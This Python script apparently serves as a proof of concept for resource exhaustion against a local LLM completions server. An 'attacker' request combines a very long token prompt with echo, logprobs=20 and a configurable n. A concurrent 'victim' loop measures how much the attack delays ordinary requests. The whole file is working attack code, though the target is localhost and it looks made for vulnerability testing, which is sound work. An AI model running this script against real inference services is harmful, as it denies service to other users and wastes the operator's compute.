import asyncio, httpx, json, sys, time
BASE = "http://127.0.0.1:18401"
L, N = int(sys.argv[1]), int(sys.argv[2])
body = {"prompt": [905] * L, "max_tokens": 1, "temperature": 0, "n": N, "echo": True, "logprobs": 20}
async def victim(c, lat, ev):
    while not ev.is_set():
        t = time.time()
        r = await c.post("/v1/completions", json={"prompt": "hello world", "max_tokens": 8, "temperature": 0})
        lat.append((round(time.time() - t, 3), r.status_code))
        await asyncio.sleep(0.05)
async def main():
    async with httpx.AsyncClient(base_url=BASE, timeout=300) as c:
        lat = []; ev = asyncio.Event()
        v = asyncio.create_task(victim(c, lat, ev))
        t = time.time(); r = await c.post("/v1/completions", json=body); dt = time.time() - t
        ev.set(); await v
        print("attacker", r.status_code, f"{dt:.2f}s", len(r.content), "bytes")
        ls = sorted(l for l, _ in lat)
        print("victim during: n=%d median %.3f max %.3f" % (len(ls), ls[len(ls)//2], ls[-1]))
asyncio.run(main())
